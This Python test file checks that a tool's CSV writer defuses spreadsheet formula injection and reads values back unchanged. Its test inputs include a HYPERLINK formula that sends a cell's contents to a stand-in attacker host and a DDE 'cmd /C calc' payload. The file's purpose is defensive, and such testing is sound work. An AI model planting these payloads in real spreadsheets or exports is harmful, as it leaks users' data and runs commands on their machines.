"""Every CSV the tool writes neutralises cells a spreadsheet would run as a formula (OWASP:
a leading ' before =, +, -, @, tab, CR), keeps numbers as numbers, and the tool's own readers
undo it so every value read back is the one written (issue 44)."""

from __future__ import annotations

import csv
import math
from pathlib import Path

import pytest

from sweep.common.csvcells import csv_text, neutralise, read_csv, restore
from sweep.decide.decision import read_scores
from sweep.decide.export import per_question_for
from sweep.outputs.quant import read_retrieved
from sweep.outputs.report import write_comparison, write_per_question

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+2", "'+1+2"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'already quoted", "''already quoted"),  # so that one ' is always what to strip
    ("plain = text", "plain = text"),
    ("-0.5", "-0.5"),  # a text that is a number: no spreadsheet runs it
    ("+3e-2", "+3e-2"),
    (-0.5, -0.5),
    (3, 3),
    (None, None),
    ("", ""),
])
def test_neutralise_and_restore_round_trip(value: object, written: object) -> None:
    assert neutralise(value) == written
    assert restore(neutralise(value)) == value


def test_csv_module_reads_back_one_quote_to_strip() -> None:
    text = csv_text(["qid", "x"], [[HYPERLINK, -0.25], ["'q", None]])
    rows = list(csv.reader(text.splitlines()))
    assert rows[1] == ["'" + HYPERLINK, "-0.25"] and rows[2] == ["''q", ""]
    assert [restore(v) for v in rows[1]] == [HYPERLINK, "-0.25"]


def test_per_question_csv_is_inert_and_reads_back_identical(tmp_path: Path) -> None:
    rows = [
        {"qid": HYPERLINK, "question": "-2+3 is what?", "status": "scored", "mrr": -0.5,
         "recall_at_5": 1.0, "retrieved_ids": "=a b c", "live_answer": "- a bullet"},
        {"qid": "-7", "question": "@mention me", "status": "scored", "mrr": 0.25,
         "recall_at_5": 0.0, "retrieved_ids": "d e"},
    ]
    path = write_per_question(tmp_path, rows)
    raw = list(csv.DictReader(path.open(newline="", encoding="utf-8")))
    # no cell a spreadsheet opens starts with a formula trigger, numbers excepted
    for row in raw:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or math.isfinite(float(value)), value
    assert raw[0]["qid"] == "'" + HYPERLINK and raw[0]["mrr"] == "-0.5"
    assert raw[1]["qid"] == "-7"  # a number-like text is left as it is
    # the tool's readers give back what was written
    frame, _ = per_question_for(str(tmp_path), "unused-uri", tmp_path)
    assert frame["qid"].tolist() == [HYPERLINK, "-7"]
    assert frame["question"].tolist() == ["-2+3 is what?", "@mention me"]
    assert frame["mrr"].tolist() == [-0.5, 0.25]
    assert frame["live_answer"].tolist()[0] == "- a bullet"
    assert read_scores(tmp_path, "mrr") == {HYPERLINK: -0.5, "-7": 0.25}
    assert read_retrieved(path) == {HYPERLINK: ["=a", "b", "c"], "-7": ["d", "e"]}
    again = read_csv(path, dtype={"qid": str})
    assert again["retrieved_ids"].tolist() == ["=a b c", "d e"]


def test_comparison_csv_is_inert(tmp_path: Path) -> None:
    rows = [{"chunk.boundary": "=cmd()", "status": "FINISHED", "headline_metric": "mrr",
             "headline": -0.125, "mrr": -0.125, "misses": 0, "error": "@oops"}]
    csv_path, _ = write_comparison(tmp_path, ["chunk.boundary"], rows)
    raw = list(csv.DictReader(csv_path.open(newline="", encoding="utf-8")))
    assert raw[0]["chunk.boundary"] == "'=cmd()" and raw[0]["error"] == "'@oops"
    assert raw[0]["headline"] == "-0.125"
    back = read_csv(csv_path)
    assert back["chunk.boundary"].tolist() == ["=cmd()"] and back["headline"].tolist() == [-0.125]


class _Label(str):
    """A str subclass (as a StrEnum's member is): still a text cell to neutralise."""


def _reference_text(header: list[object], rows: list[list[object]]) -> str:
    """The CSV written the plain way: every cell through `neutralise`, None as ""."""
    import io

    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        writer.writerow(["" if v is None else neutralise(v) for v in row])
    return buf.getvalue()


def test_csv_text_fast_paths_write_what_neutralise_writes() -> None:
    import numpy as np

    cells: list[object] = [
        None, "", 0, -3, 2.5, -0.5, math.inf, math.nan, True, False, np.float64(-0.25),
        np.int64(7), "plain", "-0.5", "+3e-2", HYPERLINK, "+1+2", "@x", "\t=1", "\r=1", "'q",
        "''q", "-", "=", " =1", "é=1", _Label("=1"), _Label("ok"), _Label("'x"), _Label(""),
    ]
    rows = [cells, cells[::-1], [None] * len(cells), [""] * len(cells), cells[5:] + cells[:5]]
    header = [f"c{i}" for i in range(len(cells) - 1)] + ["=h"]
    text = csv_text(header, rows)
    assert text == _reference_text(header, rows)
    # and the cells that changed are the text cells the rule names, nothing else
    written = list(csv.reader(text.splitlines(keepends=True)))
    assert written[1][cells.index(HYPERLINK)] == "'" + HYPERLINK
    assert written[1][cells.index(_Label("=1"))] == "'=1"
    assert written[1][cells.index(-0.5)] == "-0.5" and written[3] == [""] * len(cells)


def test_per_question_rows_lacking_columns_write_empty_cells(tmp_path: Path) -> None:
    # Rows with different keys: each row's missing columns are empty cells, the extra
    # columns sorted after the fixed ones, as a per-cell `row.get` writes them.
    from sweep.outputs.report import PER_QUESTION_COLUMNS

    rows = [{"qid": "a", "mrr": 0.5, "zeta": 1, "alpha": "=x"},
            {"qid": "b", "status": "scored", "beta": None},
            {"qid": "c", "alpha": "y", "mrr": None}]
    path = write_per_question(tmp_path, rows)
    columns = [*PER_QUESTION_COLUMNS, "alpha", "beta", "zeta"]
    expected = _reference_text(columns, [[r.get(k) for k in columns] for r in rows])
    assert path.read_bytes().decode("utf-8") == expected


def test_read_header_names_the_columns_as_read_csv_does(tmp_path: Path) -> None:
    from sweep.common.csvcells import read_header

    path = tmp_path / "t.csv"
    path.write_bytes(csv_text(["qid", "=x", "'y", "a,b", 'say "hi"', "multi\nline"],
                              [["1", 2, 3, 4, 5, 6]]).encode("utf-8"))
    names = ["qid", "=x", "'y", "a,b", 'say "hi"', "multi\nline"]
    assert read_header(path) == names == list(read_csv(path, nrows=0).columns)
    bom = tmp_path / "bom.csv"  # a spreadsheet's UTF-8 export starts with one
    bom.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert read_header(bom) == names == list(read_csv(bom, nrows=0).columns)
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    assert read_header(empty) == []


def test_read_scores_of_an_empty_or_headless_per_question_csv_is_none(tmp_path: Path) -> None:
    (tmp_path / "per_question.csv").write_bytes(b"")
    assert read_scores(tmp_path, "mrr") is None
    (tmp_path / "per_question.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    assert read_scores(tmp_path, "mrr") is None


def test_float_cells_are_written_as_the_csv_module_writes_them() -> None:
    """csv_text makes each float's text once per value: the bytes are still the csv module's
    own, for the zeros (equal keys, different texts), NaN, infinities, and ints and booleans
    equal to a float beside them."""
    import io
    import random

    rng = random.Random(46)
    specials = [0.0, -0.0, float("nan"), float("inf"), float("-inf"), 1e-300, 1.0, 1, True,
                False, 0, 0.5, -0.5, 1 / 3, 2.0**60, None, "-0.0", "=1", "1.0", ""]
    rows = [[rng.choice(specials) if rng.random() < 0.5 else rng.choice([0.25, 0.75, 1 / 7])
             for _ in range(9)] for _ in range(300)]
    rows.append(specials)
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([f"c{i}" for i in range(len(specials))])
    writer.writerows([neutralise(v) for v in row] for row in rows)
    got = csv_text([f"c{i}" for i in range(len(specials))], rows)
    assert got == buf.getvalue()
    assert "-0.0,nan,inf,-inf,1e-300,1.0,1,True,False,0,0.5,-0.5" in got
